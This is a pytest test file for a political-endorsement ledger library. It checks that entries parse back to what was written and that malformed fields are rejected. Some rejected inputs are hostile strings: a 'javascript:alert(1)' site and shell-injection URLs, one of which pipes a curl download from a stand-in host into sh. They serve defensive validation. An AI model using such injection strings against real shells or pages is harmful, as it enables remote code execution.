"""Statements and entries: each has one writing, which reads as the same value; what no entry may say is refused."""

from datetime import UTC, datetime
from fractions import Fraction
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hustings import errors
from hustings.ledger.entries import EntryLine, Opening, parse_entry
from hustings.ledger.kinds import Evidence
from hustings.ledger.parts import Process, Share, Source
from hustings.ledger.statements import STATEMENTS, EndorsementStatement, Statement
from hustings.protocol.canonical import Reader
from tests.ledger import strategies

HASH = "ab" * 32
MOMENTS = st.datetimes(datetime(1900, 1, 1), datetime(2199, 12, 31), timezones=st.just(UTC))  # noqa: DTZ001 - theirs


@settings(max_examples=300, deadline=None)
@given(strategies.statements, st.integers(1, 2**53), strategies.hashes, MOMENTS)
def test_an_entry_reads_as_it_was_written(states: Statement, number: int, previous: str, at: datetime) -> None:
    entry = EntryLine(number, previous, at.replace(microsecond=0), "forward", states)
    assert parse_entry(entry.write()) == entry


def test_the_opening_reads_as_it_was_written() -> None:
    opening = Opening("https://votes.example.org")
    assert parse_entry(opening.write()) == opening


KINDS = {kind.type: kind for kind in STATEMENTS}
GOOD: dict[str, dict[str, Any]] = {
    "endorser": {"id": "moveon", "name": "MoveOn", "kind": "advocacy"},
    "contest": {"id": "iowa", "name": "Iowa"},
    "candidate": {"contest": "iowa", "id": "bernie-sanders", "name": "Bernie Sanders"},
    "endorsement": {
        "endorser": "moveon",
        "contest": "iowa",
        "status": "endorsed",
        "candidate": "bernie-sanders",
        "process": {"kind": "unknown"},
    },
}
FIELDS = {kind.type: [*kind.__dataclass_fields__] for kind in STATEMENTS}


def changed(kind: str, /, **values: object) -> dict[str, Any]:
    """A statement in order but for these fields, which stand in their places; None takes one away."""
    fields = GOOD[kind] | values
    return {name: fields[name] for name in FIELDS[kind] if fields.get(name) is not None}


def test_statements_of_the_least_are_read() -> None:
    for kind, fields in GOOD.items():
        assert KINDS[kind].from_json(Reader(changed(kind))).to_json() == fields


CORRECTS = {"entry": 3, "hash": HASH, "reason": "Another day"}
SOURCE = {"title": "News"}


@pytest.mark.parametrize(
    ("kind", "values", "fault", "where"),
    [
        ("endorser", {"kind": "club"}, errors.WrongField, "kind"),
        ("endorser", {"id": "Move On"}, errors.WrongField, "id"),
        ("endorser", {"id": "a" * 201}, errors.WrongField, "id"),
        ("endorser", {"name": ""}, errors.WrongField, "name"),
        ("endorser", {"name": "Move\nOn"}, errors.WrongField, "name"),
        ("endorser", {"name": "Move\u202eOn"}, errors.WrongField, "name"),
        ("endorser", {"name": "x" * 201}, errors.WrongField, "name"),
        ("endorser", {"also": ["x"] * 51}, errors.NumberOutOfRange, "also"),
        ("endorser", {"founded": "1998-13"}, errors.WrongField, "founded"),
        ("endorser", {"members": -1}, errors.NumberOutOfRange, "members"),
        ("endorser", {"members": True}, errors.WrongField, "members"),
        ("endorser", {"site": "javascript:alert(1)"}, errors.WrongField, "site"),
        ("endorser", {"site": "https://user@example.org/"}, errors.WrongField, "site"),
        ("endorser", {"site": "https://"}, errors.WrongField, "site"),
        ("endorser", {"site": "https://example.org:x/"}, errors.WrongField, "site"),
        ("endorser", {"wikidata": "359442"}, errors.WrongField, "wikidata"),
        ("contest", {"cycle": 10_000}, errors.NumberOutOfRange, "cycle"),
        ("contest", {"name": None}, errors.WrongField, ""),
        ("candidate", {"share": "100.1"}, errors.WrongField, "share"),
        ("candidate", {"share": "43,1"}, errors.WrongField, "share"),
        ("candidate", {"outcome": "elected"}, errors.WrongField, "outcome"),
        ("endorsement", {"candidate": None}, errors.WrongField, "candidate"),
        ("endorsement", {"status": "liked"}, errors.WrongField, "status"),
        ("endorsement", {"status": "retracted"}, errors.WrongField, "corrects"),
        ("endorsement", {"date": "12 January"}, errors.WrongField, "date"),
        ("endorsement", {"date": "2016-02-30"}, errors.WrongField, "date"),
        ("endorsement", {"source": {}}, errors.WrongField, "source"),
        ("endorsement", {"source": {"date": "2016"}}, errors.WrongField, "source"),
        ("endorsement", {"source": {"link": "news.example.org"}}, errors.WrongField, "source.link"),
        ("endorsement", {"source": SOURCE | {"text_hash": "AB"}}, errors.WrongField, "source.text_hash"),
        ("endorsement", {"process": {"kind": "lottery"}}, errors.WrongField, "process.kind"),
        ("endorsement", {"process": {"kind": "board", "threshold": "3/2"}}, errors.WrongField, "process.threshold"),
        ("endorsement", {"process": {"kind": "board", "threshold": "0/2"}}, errors.WrongField, "process.threshold"),
        ("endorsement", {"corrects": CORRECTS | {"reason": ""}}, errors.WrongField, "corrects.reason"),
        ("endorsement", {"corrects": CORRECTS | {"hash": HASH[1:]}}, errors.WrongField, "corrects.hash"),
    ],
)
def test_what_no_entry_may_say_is_refused(
    kind: str, values: dict[str, object], fault: type[errors.Fault], where: str
) -> None:
    with pytest.raises(fault) as raised:
        KINDS[kind].from_json(Reader(changed(kind, **values)))
    assert raised.value.where == where


def test_an_option_has_no_more_votes_than_there_are_ballots() -> None:
    process = Process(ballots=7, results=(Share("Bernie Sanders", 7), Share("Hillary Clinton", 8)))
    with pytest.raises(errors.WrongField, match="more votes than ballots") as raised:
        Process.from_json(Reader(process.to_json()))
    assert raised.value.where == "results[1].votes"


def test_a_share_is_exact_where_votes_and_ballots_are_known() -> None:
    process = Process(ballots=3, results=(Share("A", 1), Share("B", percent="33.3"), Share("C")))
    assert [process.percent_of(name) for name in "ABCD"] == [Fraction(100, 3), Fraction("33.3"), None, None]


@pytest.mark.parametrize(
    "site",
    [
        *("https://x.example/$(curl${IFS}evil.example|sh)", "https://x.example/`id`", "https://x.example/;id"),
        *("https://x.example/?a=1", "https://x.example/#a", "https://:word@x.example", "https://x.example/'a'"),
        "https://exämple.org",
    ],
)
def test_a_proofs_site_is_nothing_that_a_shell_reads_otherwise(site: str) -> None:
    # The entry's page shows commands with it, to be pasted.
    proof = {"site": site, "election": "u", "public_key": HASH, "certificate": HASH, "archive": HASH}
    with pytest.raises(errors.WrongField) as raised:
        KINDS["endorsement"].from_json(Reader(changed("endorsement", proof=proof)))
    assert raised.value.where == "proof.site"


def test_what_is_proven_is_so_whatever_else_is_named() -> None:
    statement = KINDS["endorsement"].from_json(Reader(changed("endorsement")))
    assert isinstance(statement, EndorsementStatement)
    assert statement.evidence is Evidence.CLAIMED
    sourced = KINDS["endorsement"].from_json(Reader(changed("endorsement", source=Source("News").to_json())))
    assert isinstance(sourced, EndorsementStatement)
    assert sourced.evidence is Evidence.SOURCED
    proof = {"site": "https://example.org/", "election": "u", "public_key": HASH, "certificate": HASH, "archive": HASH}
    proven = KINDS["endorsement"].from_json(Reader(changed("endorsement", proof=proof, source=SOURCE)))
    assert isinstance(proven, EndorsementStatement)
    assert proven.evidence is Evidence.PROVEN
